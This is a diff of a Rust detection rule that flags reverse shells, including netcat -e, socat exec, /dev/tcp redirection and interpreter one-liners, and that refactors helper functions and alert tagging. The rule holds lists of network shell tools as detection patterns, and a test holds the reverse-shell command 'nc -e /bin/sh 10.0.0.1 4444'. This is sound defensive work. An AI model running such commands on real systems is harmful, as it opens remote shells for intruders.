@@ -6,6 +6,7 @@
 //! It fires on the host and in containers alike.
 
 use vigil_sdk::prelude::*;
+use vigil_sdk::strip_version;
 
 const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
 const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ash", "ksh"];
@@ -20,19 +21,22 @@ const INTERPRETERS: &[&str] = &["python", "perl", "ruby", "php"];
 pub fn detect(event: &Event) -> Option<Alert> {
     let process = event.process()?;
     let technique = technique(&process)?;
-    let place = match event.container() {
-        Some(c) => format!("in container (command={} container={} image={})", process.cmdline(), c.name(), c.image()),
-        None => format!("on host (command={} container=host)", process.cmdline()),
+    let command = process.cmdline();
+    let alert = match event.container() {
+        Some(c) => Alert::critical(format!(
+            "Reverse shell via {technique} in container (command={command} container={} image={})",
+            c.name(),
+            c.image()
+        ))
+        .tag("container"),
+        None => Alert::critical(format!("Reverse shell via {technique} on host (command={command} container=host)")),
     };
-    let alert = Alert::critical(format!("Reverse shell via {technique} {place}"))
-        .tags(["network", "mitre_execution", "T1059", "mitre_command_and_control", "T1071"])
-        .field("technique", technique);
-    Some(if event.in_container() { alert.tag("container") } else { alert })
+    Some(alert.field("technique", technique))
 }
 
 /// How `process` opens a reverse shell, if it does.
 fn technique(process: &Process) -> Option<&'static str> {
-    let name = program(process);
+    let name = process.program();
     if NETCATS.contains(&name) {
         process.args().any(netcat_exec_flag).then_some("netcat -e")
     } else if name == "socat" {
@@ -42,7 +46,7 @@ fn technique(process: &Process) -> Option<&'static str> {
             .any(|a| a.contains(':') && ["tcp", "udp", "openssl", "ssl"].iter().any(|p| starts_with_ci(a, p)));
         (exec && net).then_some("socat exec")
     } else if SHELLS.contains(&name) {
-        let script = shell_script(process)?;
+        let script = process.shell_script()?;
         if script.contains("/dev/tcp/") || script.contains("/dev/udp/") {
             Some("/dev/tcp redirection")
         } else if script.contains("mkfifo") && words(script).any(|w| NETCATS.contains(&w)) {
@@ -50,42 +54,12 @@ fn technique(process: &Process) -> Option<&'static str> {
         } else {
             None
         }
-    } else if INTERPRETERS.contains(&unversioned(name)) {
+    } else if INTERPRETERS.contains(&strip_version(name)) {
         let inline = process.args().any(|a| matches!(a, "-c" | "-e" | "-r"));
         (inline && process.args().any(socket_shell_one_liner)).then_some("scripted socket")
     } else {
         None
     }
-}
-
-/// The program's name: the executable's, or for busybox the applet's.
-fn program<'a>(process: &Process<'a>) -> &'a str {
-    match process.exe_basename() {
-        "busybox" => vigil_sdk::basename(process.arg(0).unwrap_or("")),
-        name => name,
-    }
-}
-
-/// `python3.11` → `python`.
-fn unversioned(name: &str) -> &str {
-    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
-}
-
-/// The script of `sh -c SCRIPT` (also `-ec`, `-lc`, ...); None for a script file or an interactive shell.
-fn shell_script<'a>(process: &Process<'a>) -> Option<&'a str> {
-    let mut args = process.args();
-    while let Some(arg) = args.next() {
-        match arg {
-            "-o" | "+o" => {
-                args.next();
-            }
-            a if a.starts_with("--") => {}
-            a if a.starts_with('-') && a.contains('c') => return args.next(),
-            a if a.starts_with(['-', '+']) => {}
-            _ => return None,
-        }
-    }
-    None
 }
 
 /// `-e`, `-c`, `--exec`, `--sh-exec`, `--exec=...`, `-e/bin/sh` or a cluster such as `-nve`.
@@ -150,7 +124,7 @@ mod tests {
             a[0].message,
             "Reverse shell via netcat -e on host (command=nc -e /bin/sh 10.0.0.1 4444 container=host)"
         );
-        assert!(a[0].has_tag("T1059") && a[0].has_tag("T1071") && !a[0].has_tag("container"));
+        assert!(!a[0].has_tag("container"));
     }
 
     #[test]
